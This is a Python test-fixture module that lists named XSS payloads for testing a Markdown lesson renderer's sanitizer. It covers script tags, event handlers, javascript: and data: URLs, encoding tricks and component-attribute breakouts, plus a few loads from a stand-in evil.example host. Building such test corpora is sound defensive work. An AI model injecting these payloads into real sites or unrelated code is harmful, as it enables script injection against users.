"""XSS vectors for the sanitizer tests (unit and browser): ``(id, lesson source)`` pairs.

Lesson sources are Markdown, so the corpus mixes raw HTML (shown as text by the
renderer, and stripped by the sanitizer if it ever got through), Markdown links,
images, autolinks and reference links with hostile URLs, and the MDX-style
components the renderer does interpret (``<Callout>``, ``::: callout``).
Every vector is self-contained: fences and callouts are closed, so vectors can be
concatenated into one lesson.
"""

from __future__ import annotations

import re

XSS_VECTORS: list[tuple[str, str]] = [
    # --- script tags -------------------------------------------------------------------
    ("script-plain", "<script>alert(1)</script>"),
    ("script-upper", "<SCRIPT>alert(1)</SCRIPT>"),
    ("script-mixed", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-src", '<script src="https://evil.example/x.js"></script>'),
    ("script-slash", "<script/xss>alert(1)</script>"),
    ("script-nested", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-unclosed", "<script>alert(1)"),
    ("script-space-close", "<script>alert(1)</script >"),
    ("script-null", "<scr\x00ipt>alert(1)</script>"),
    ("script-entity", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script-numeric-entity", "&#60;script&#62;alert(1)&#60;/script&#62;"),
    ("script-in-inline-code", "`<script>alert(1)</script>`"),
    ("script-in-fence", "```html\n<script>alert(1)</script>\n```"),
    ("script-in-unknown-fence", "```nolang\n<script>alert(1)</script>\n```"),
    ("script-fence-info", "```html onload=alert(1)\n<b>x</b>\n```"),
    ("script-fence-info-quote", '```"><script>alert(1)</script>\ncode\n```'),
    ("script-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("script-indented", "    <script>alert(1)</script>"),
    # --- event handlers ----------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-quoted", '<img src="x" onerror="alert(1)">'),
    ("img-onerror-upper", "<IMG SRC=x ONERROR=alert(1)>"),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("body-onload", "<body onload=alert(1)>"),
    ("div-onmouseover", '<div onmouseover="alert(1)">hover</div>'),
    ("a-onclick", '<a href="#" onclick="alert(1)">click</a>'),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>"),
    ("input-onfocus", "<input autofocus onfocus=alert(1)>"),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("p-onclick-backtick", "<p onclick=`alert(1)`>x</p>"),
    # --- javascript:/vbscript:/data: URLs in raw HTML --------------------------------
    ("a-js-href", '<a href="javascript:alert(1)">x</a>'),
    ("a-js-href-upper", '<a href="JaVaScRiPt:alert(1)">x</a>'),
    ("a-js-entity", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;'
                    '&#58;alert(1)">x</a>'),
    ("a-js-hex-entity", '<a href="&#x6A;avascript&#x3A;alert(1)">x</a>'),
    ("a-js-tab", '<a href="jav\tascript:alert(1)">x</a>'),
    ("a-js-newline", '<a href="jav\nascript:alert(1)">x</a>'),
    ("a-js-tab-entity", '<a href="jav&#x09;ascript:alert(1)">x</a>'),
    ("a-js-leading-space", '<a href=" javascript:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html,<script>alert(1)</script>">x</a>'),
    ("a-data-base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("img-js-src", '<img src="javascript:alert(1)">'),
    ("img-data-svg", '<img src="data:image/svg+xml,<svg onload=alert(1)>">'),
    # --- dangerous tags ----------------------------------------------------------------
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-animate", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/>'
                    "<text y=20>x</text></a></svg>"),
    ("math-href", '<math><mtext><a xlink:href="javascript:alert(1)">x</a></mtext></math>'),
    ("iframe-js", '<iframe src="javascript:alert(1)"></iframe>'),
    ("iframe-srcdoc", '<iframe srcdoc="<script>alert(1)</script>"></iframe>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("embed-src", '<embed src="data:text/html,<script>alert(1)</script>">'),
    ("style-tag", "<style>body{background:url(javascript:alert(1))}</style>"),
    ("style-attr-expression", '<div style="width: expression(alert(1))">x</div>'),
    ("style-attr-url", '<p style="background:url(javascript:alert(1))">x</p>'),
    ("meta-refresh", '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">'),
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("form-action", '<form action="javascript:alert(1)"><button>go</button></form>'),
    ("button-formaction", '<button formaction="javascript:alert(1)">go</button>'),
    ("link-import", '<link rel="import" href="https://evil.example/x.html">'),
    ("template-script", "<template><script>alert(1)</script></template>"),
    ("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'),
    ("comment-breakout", "<!--><script>alert(1)</script>-->"),
    ("cdata", "<![CDATA[<script>alert(1)</script>]]>"),
    ("xmp-breakout", "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">"),
    # --- Markdown links, images, autolinks, references ------------------------------
    ("md-link-js", "[x](javascript:alert(1))"),
    ("md-link-js-upper", "[x](JAVASCRIPT:alert(1))"),
    ("md-link-js-entity", "[x](&#106;avascript:alert(1))"),
    ("md-link-js-hex-entity", "[x](&#x6a;&#x61;vascript&#x3a;alert(1))"),
    ("md-link-js-tab-entity", "[x](java&#x09;script:alert(1))"),
    ("md-link-js-newline-entity", "[x](java&#10;script:alert(1))"),
    ("md-link-js-angle", "[x](<javascript:alert(1)>)"),
    ("md-link-js-angle-space", "[x](< javascript:alert(1)>)"),
    ("md-link-js-escaped-colon", "[x](javascript\\:alert(1))"),
    ("md-link-js-percent", "[x](javascript%3Aalert(1))"),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))"),
    ("md-link-data-html", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-title-breakout", '[x](https://example.org "a\\" onmouseover=\\"alert(1)")'),
    ("md-image-js", "![x](javascript:alert(1))"),
    ("md-image-data-png", "![x](data:image/png;base64,iVBORw0KGgo=)"),
    ("md-image-data-svg", "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-alt-breakout", '![x" onerror="alert(1)](https://example.org/a.png)'),
    ("md-image-title-breakout", '![x](https://example.org/a.png "x\\" onerror=\\"alert(1)")'),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("md-ref-link-js", "[x][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-ref-link-js-title", '[x][evil]\n\n[evil]: javascript:alert(1) "t"'),
    ("md-ref-image-js", "![x][evil]\n\n[evil]: javascript:alert(1)"),
    ("md-ref-link-data", "[x][evil]\n\n[evil]: data:text/html,<script>alert(1)</script>"),
    ("md-link-text-html", "[<img src=x onerror=alert(1)>](https://example.org)"),
    ("md-footnote-html", "x[^1]\n\n[^1]: <script>alert(1)</script> [y](javascript:alert(1))"),
    ("md-footnote-label", '[^a" onclick="alert(1)]\n\n[^a" onclick="alert(1)]: note'),
    # --- HTML in headings, tables, callouts --------------------------------------------
    ("heading-script", "## <script>alert(1)</script>\n\ntext"),
    ("heading-img", "# Title <img src=x onerror=alert(1)>"),
    ("heading-js-link", "## [x](javascript:alert(1))"),
    ("table-html", "| a | b |\n|---|---|\n| <script>alert(1)</script> | "
                   "<img src=x onerror=alert(1)> |"),
    ("table-js-link", "| a |\n|---|\n| [x](javascript:alert(1)) |"),
    ("table-align-breakout", '| a |\n|:--"onclick="alert(1)|\n| b |'),
    ("callout-onclick", '<Callout kind="tip" onclick="alert(1)">\nx\n</Callout>'),
    ("callout-kind-breakout", '<Callout kind="tip\\" onclick=\\"alert(1)">\nx\n</Callout>'),
    ("callout-script-body", '<Callout kind="warning">\n<script>alert(1)</script>\n'
                            "[x](javascript:alert(1))\n</Callout>"),
    ("callout-unknown-kind", '<Callout kind="evil">\n<img src=x onerror=alert(1)>\n</Callout>'),
    ("container-info-breakout", '::: callout x" onclick="alert(1)\nbody\n:::'),
    ("container-info-script", "::: callout \"><script>alert(1)</script>\nbody\n:::"),
    ("container-info-img", '::: callout tip"><img src=x onerror=alert(1)>\nbody\n:::'),
    ("details-component", '<Details summary="<img src=x onerror=alert(1)>">\nx\n</Details>'),
    ("figure-component", '<Figure src="javascript:alert(1)" alt="x" caption="c"/>'),
    ("mdx-expression", "{alert(1)}\n\nimport x from 'evil'\n\nexport const y = alert(1)"),
    # --- encodings and oddities --------------------------------------------------------
    ("utf7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("fullwidth-brackets", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("rtl-override", "\u202e<script>alert(1)</script>"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("srcset", '<img srcset="javascript:alert(1) 1x">'),
    ("a-xlink", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("polyglot", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//"
                 "</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"),
]

_WORST = re.compile(r"script|\bon[a-z]+\s*=|javascript:", re.IGNORECASE)


def worst_vectors(limit: int = 30) -> list[tuple[str, str]]:
    """At most ``limit`` of the vectors whose raw text holds ``script``, an ``on*=`` handler
    or ``javascript:``."""
    matching = [(name, source) for name, source in XSS_VECTORS if _WORST.search(source)]
    if len(matching) <= limit:
        return matching
    # Evenly spaced over the list, so every family above (raw HTML, Markdown links,
    # components, encodings) is represented.
    return [matching[i * len(matching) // limit] for i in range(limit)]


def tries_script(text: str) -> bool:
    """Whether ``text`` holds ``script``, an ``on*=`` handler or ``javascript:`` (the test
    that picks ``worst_vectors``; also used to pick the naughty strings that try it)."""
    return bool(_WORST.search(text))
